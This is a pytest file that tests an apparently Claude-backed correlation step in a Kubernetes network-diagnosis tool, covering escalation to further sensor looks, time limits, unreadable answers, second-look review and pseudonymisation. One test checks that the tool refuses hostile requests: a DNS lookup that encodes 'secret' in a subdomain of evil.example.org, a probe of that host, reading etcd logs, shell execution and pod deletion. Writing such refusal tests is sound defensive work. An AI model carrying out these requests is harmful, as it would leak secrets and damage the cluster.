"""The step `agentType: correlation`, on recorded incidents and answers that we wrote ourselves."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

import pytest

from flows.agent.bare_brief import PREFACE
from flows.agent.correlation import TURNS, Table, correlate, is_unsure, time_for
from flows.agent.open_walk import OpenWalk
from flows.agent.prompt import CORRELATE_PROMPT, REVIEW
from flows.agent.reply import ModelReply, NoAnswer
from flows.catalog import rules
from flows.engine import Walk, WalkTools, walk
from flows.load import load_flows
from flows.model import AskedLook, Diagnosis
from sensors.kit.catalog import sensors
from tests.flows.agent.answers import FAIR, TRUE, answer, is_asking, review
from tests.flows.agent.script import Script, reply_of
from tests.kit.cases import case, target_of
from tests.kit.messages_api import Answer, asks, says

TOOLS = WalkTools(sensors(), rules())
NETWORK, DROPS, DNS = "flow.k8s_network_debug", "flow.k8s_policy_drops", "flow.k8s_dns_debug"


async def walked(name: str, flow: str = NETWORK, *, peer: bool = True) -> Walk:
    recorded = case(name)
    target = target_of(recorded)
    target = target if peer else replace(target, to_host=None, to_port=None, to_protocol=None)
    return await walk(load_flows()[flow], target, recorded, TOOLS)


def table(script: Script, **more: Any) -> Table:
    return Table("claude-sonnet-5-5", script.ask, "0123abcd", sensors(), rules(), **more)


async def escalated(name: str, flow: str, asked: Answer, *, peer: bool = True) -> tuple[Walk, Diagnosis, Script]:
    """What comes of it when our answer asks for this look, and afterwards says nothing that counts."""
    before = await walked(name, flow, peer=peer)
    silent = says(answer(cause_class="inconclusive", confidence=0.1))
    script = Script(lambda body: asked if is_asking(body) else silent)
    scene = OpenWalk(before, case(name), TOOLS)
    return before, await correlate(before.diagnosis, table(script, further=scene)), script


# -- escalation ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "flow", "sensor", "truth"),
    [
        ("gallery-to-media", DROPS, "net.mtu", "mtu.mismatch"),
        ("edge-to-sessions", DROPS, "net.conntrack_usage", "conntrack.full"),
        ("planner-to-roster", DROPS, "k8s.nodes", "node.not_ready"),
    ],
)
async def test_an_inconclusive_case_ends_with_the_verdict_of_the_look_that_decides(
    name: str, flow: str, sensor: str, truth: str
) -> None:
    before, after, script = await escalated(name, flow, asks("ask_sensor", sensor=sensor))

    assert before.diagnosis.cause_class == "inconclusive"
    assert (after.cause_class, after.decided_by) == (truth, "rules+claude")
    assert after.explanation is not None
    assert [(each.question, each.refused) for each in after.explanation.asked] == [(sensor, "")]
    assert script.purposes == ["ask-1", "explain"]


async def test_a_peer_that_nobody_named_is_asked_about_and_the_rules_judge_it() -> None:
    """The question named no peer; the evidence does, and a look at that peer decides."""
    before, after, _ = await escalated(
        "listener-to-stream", NETWORK, asks("try_peer", peer="stream.radio.svc.cluster.local:9000"), peer=False
    )

    assert (before.diagnosis.cause_class, after.cause_class) == ("inconclusive", "none.healthy")
    assert after.target.to == "stream.radio.svc.cluster.local:9000"


@pytest.mark.parametrize(
    ("name", "flow", "requests"), [("edge-to-sessions", DROPS, 3), ("api-server-cannot-watch", NETWORK, 2)]
)
async def test_all_that_was_told_is_kept_with_the_answers_to_looks_and_the_second_look(name, flow, requests) -> None:
    before, asked = await walked(name, flow), asks("ask_sensor", sensor="net.mtu")
    script = Script(lambda body: asked if is_asking(body) else says(review()) if is_reviewing(body) else says(FAIR))
    more = {"further": OpenWalk(before, case(name), TOOLS), "second_look": True}
    after = await correlate(before.diagnosis, table(script, **more))

    told = [text for body in script.bodies for text in told_in(body)]
    assert after.explanation is not None
    assert len(script.bodies) >= requests
    assert [each for each in told if each not in after.explanation.sent] == []


def told_in(body: Mapping[str, Any]) -> list[str]:
    """What a request says of the case: briefs, and what came of the looks; not the fixed words around them."""
    ours = [each for message in body["messages"] if message["role"] == "user" for each in message["content"]]
    texts = [str(each.get("text") or each.get("content")) for each in ours]
    return [each for each in texts if not each.startswith((CORRELATE_PROMPT[:40], REVIEW[:40]))]


def is_reviewing(body: Mapping[str, Any]) -> bool:
    return REVIEW[:40] in str(body["messages"])


async def test_what_the_doubts_of_the_rules_lack_stands_first_in_the_list_of_looks() -> None:
    before = await walked("gallery-to-media", DROPS)
    needed = [each.why for each in before.diagnosis.doubts]

    tools = await OpenWalk(before, case("gallery-to-media"), TOOLS).tools()
    first = tools[0]["input_schema"]["properties"]["sensor"]["enum"][0]

    assert any(TOOLS.sensors[first].gives.__name__ in why for why in needed)


async def test_at_most_four_looks_are_asked_for_whatever_the_answer_wants() -> None:
    before = await walked("search-to-index", DROPS)
    assert is_unsure(before.diagnosis)
    looks = iter(["net.tcp_stats", "k8s.nodes", "kube_proxy.health", "dns.coredns_health", "net.mtu", "net.connect"])
    script = Script(lambda body: asks("ask_sensor", sensor=next(looks)) if is_asking(body) else says(answer()))
    scene = OpenWalk(before, case("search-to-index"), TOOLS)

    after = await correlate(before.diagnosis, table(script, further=scene))

    assert after.explanation is not None
    assert len(after.explanation.asked) <= TURNS
    assert [each for each in script.purposes if each.startswith("ask")] == [f"ask-{n}" for n in range(1, TURNS + 1)]


@pytest.mark.parametrize(
    ("asked", "why"),
    [
        (asks("try_peer", peer="evil.example.org:53"), "stands nowhere in the evidence"),
        (asks("resolve_name", name="c2VjcmV0.evil.example.org"), "stands nowhere in the evidence"),
        (asks("read_pod_log", namespace="kube-system", pod="etcd-of-somebody"), "stands nowhere in the evidence"),
        (asks("ask_sensor", sensor="shell.exec"), "there is no sensor"),
        (asks("ask_sensor", sensor="k8s.pod"), "was asked already"),
        (asks("delete_pod", pod="x"), "there is no look"),
        (asks("may_talk", host="10.96.0.10", port=99999), "stands nowhere"),
        (asks("try_peer", peer=["a", "list"]), "should be one word"),
    ],
    ids=lambda each: str(getattr(each, "blocks", each))[:60],
)
async def test_a_look_that_may_not_be_taken_is_refused_and_told_so(asked: Answer, why: str) -> None:
    before, after, script = await escalated("edge-to-sessions", DROPS, asked)

    assert after.cause_class == before.diagnosis.cause_class == "inconclusive"
    assert after.explanation is not None
    assert why in after.explanation.asked[0].refused
    told = script.bodies[1]["messages"][-1]["content"][0]
    assert (told["is_error"], why in told["content"]) == (True, True)


async def test_a_sure_verdict_is_explained_without_asking_for_anything() -> None:
    before = await walked("api-server-cannot-watch")
    script = Script(lambda body: says(FAIR))

    after = await correlate(
        before.diagnosis, table(script, further=OpenWalk(before, case("api-server-cannot-watch"), TOOLS))
    )

    assert script.purposes == ["explain"]
    assert after.explanation is not None
    assert [each.text for each in after.explanation.statements] == [text for text, _ in TRUE]


async def test_each_look_is_told_while_it_goes_on() -> None:
    before = await walked("edge-to-sessions", DROPS)
    heard: list[AskedLook] = []

    async def watch(asked: AskedLook) -> None:
        heard.append(asked)

    script = Script(lambda b: asks("ask_sensor", sensor="net.conntrack_usage") if is_asking(b) else says(answer()))
    await correlate(
        before.diagnosis, table(script, further=OpenWalk(before, case("edge-to-sessions"), TOOLS), watch=watch)
    )

    assert [each.question for each in heard] == ["net.conntrack_usage"]
    assert "conntrack" in heard[0].summary


# -- time ------------------------------------------------------------------------------------------------------------


class Clock:
    """Time that passes only when a call says that it took so long."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


async def test_calls_get_the_time_that_is_left_and_no_more() -> None:
    clock, given = Clock(), list[float]()
    before = await walked("edge-to-sessions", DROPS)

    async def ask(purpose: str, request: Mapping[str, Any], within: float) -> ModelReply:
        given.append(within)
        clock.now += 9.0
        if is_asking(request):
            return reply_of(asks("ask_sensor", sensor=f"net.{len(given)}"))
        raise NoAnswer("it took too long")

    scene = OpenWalk(before, case("edge-to-sessions"), TOOLS)
    after = await correlate(
        before.diagnosis, replace(table(Script(_none)), ask=ask, further=scene, clock=clock, in_all=26.0)
    )

    assert given == [20.0, 11.0, 2.0, -7.0, -10.0]
    assert after.explanation is not None
    assert "it took too long" in after.explanation.failed


async def test_a_person_waits_at_most_thirty_seconds_in_all() -> None:
    it = (await walked("api-server-cannot-watch")).diagnosis

    waits = [total / 1000 + time_for(replace(it, total_ms=total)) for total in (0.0, 500.0, 5000.0, 20000.0)]

    assert max(waits) <= 28.0


# -- failure ---------------------------------------------------------------------------------------------------------


def _none(body: Mapping[str, Any]) -> Answer:
    raise AssertionError("nothing is asked here")


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ("not json", "it is not JSON"),
        ("[]", "it is not an object"),
        ('{"statements": 1}', "statements is not a list"),
        ({**FAIR, "confidence": 7}, "confidence is not between 0 and 1"),
        ({**FAIR, "statements": [{"text": "x"}]}, "evidence is not a list"),
        ("{" * 100_000, "it is not JSON"),
    ],
    ids=("prose", "list", "number", "confidence", "no evidence", "deep"),
)
async def test_an_answer_that_cannot_be_read_leaves_the_verdict_of_the_rules(said: Any, why: str) -> None:
    before = (await walked("api-server-cannot-watch")).diagnosis

    after = await correlate(before, table(Script(lambda body: says(said))))

    assert replace(after, explanation=None) == before
    assert after.explanation is not None
    assert (why in after.explanation.failed, after.explanation.statements) == (True, ())


async def test_a_look_that_was_won_stays_when_the_explanation_fails() -> None:
    before = await walked("edge-to-sessions", DROPS)
    looked = asks("ask_sensor", sensor="net.conntrack_usage")
    script = Script(lambda body: looked if is_asking(body) else says("nonsense"))

    after = await correlate(before.diagnosis, table(script, further=OpenWalk(before, case("edge-to-sessions"), TOOLS)))

    assert (after.cause_class, after.decided_by) == ("conntrack.full", "rules+claude")
    assert after.explanation is not None
    assert "cannot be read" in after.explanation.failed


# -- second look -----------------------------------------------------------------------------------------------------


def twice(
    first: Mapping[str, Any], second: Mapping[str, Any], bare: Mapping[str, Any] | None = None
) -> Callable[[Mapping[str, Any]], Answer]:
    def script(body: Mapping[str, Any]) -> Answer:
        is_review = "strike" in body["output_config"]["format"]["schema"]["properties"]
        return says(second if is_review else bare if is_bare(body) and bare else first)

    return script


def is_bare(body: Mapping[str, Any]) -> bool:
    return str(body["messages"][0]["content"][0]["text"]).startswith(PREFACE)


async def test_a_second_look_strikes_what_it_has_a_grounded_reason_for_and_nothing_else() -> None:
    before = (await walked("api-server-cannot-watch")).diagnosis
    strikes = review(
        (1, "E1 counts 847 packets in 820 attempts.", ["E1"]), (2, "The node burned down at 9999.", ["E1"])
    )

    after = await correlate(before, table(Script(twice(FAIR, strikes)), second_look=True))

    assert after.explanation is not None
    assert [each.text for each in after.explanation.statements] == [TRUE[1][0]]
    assert [each.why for each in after.explanation.struck] == ["second look: E1 counts 847 packets in 820 attempts."]


async def test_a_second_look_lowers_with_evidence_and_never_raises() -> None:
    before = (await walked("api-server-cannot-watch")).diagnosis

    async def confidence(bare: Mapping[str, Any] = FAIR, **said: Any) -> float:
        script = Script(twice(FAIR, review(**said), bare))
        return (await correlate(before, table(script, second_look=True))).confidence

    assert await confidence(confidence=1.0, against=["E4"]) == before.confidence
    assert await confidence(confidence=0.2) == before.confidence
    assert await confidence(confidence=0.2, against=["E4"]) == before.confidence, "the bare brief carries no doubt"
    assert await confidence(answer(against=["E4"], confidence=0.3), confidence=0.2, against=["E4"]) == 0.3


async def test_when_the_second_look_fails_the_first_explanation_stands() -> None:
    before = (await walked("api-server-cannot-watch")).diagnosis

    after = await correlate(before, table(Script(twice(FAIR, {"strike": "no"})), second_look=True))

    assert after.explanation is not None
    assert len(after.explanation.statements) == len(TRUE)
    assert after.explanation.failed.startswith("No second look was taken")


# -- pseudonyms ------------------------------------------------------------------------------------------------------


async def test_with_pseudonyms_no_name_leaves_and_the_names_are_back_at_home() -> None:
    before = (await walked("api-server-cannot-watch")).diagnosis

    def script(body: Mapping[str, Any]) -> Answer:
        brief = body["messages"][0]["content"][0]["text"]
        row = next(line for line in brief.splitlines() if line.startswith("E3 "))
        policy = row.partition("NetworkPolicy ")[2].split()[0]
        return says(answer((f"NetworkPolicy {policy} selects the pod.", ["E3"])))

    asked = Script(script)
    after = await correlate(before, table(asked, anonymize=True))

    assert "strict-egress" not in str(asked.bodies)
    assert after.explanation is not None
    assert [each.text for each in after.explanation.statements] == [TRUE[1][0]]
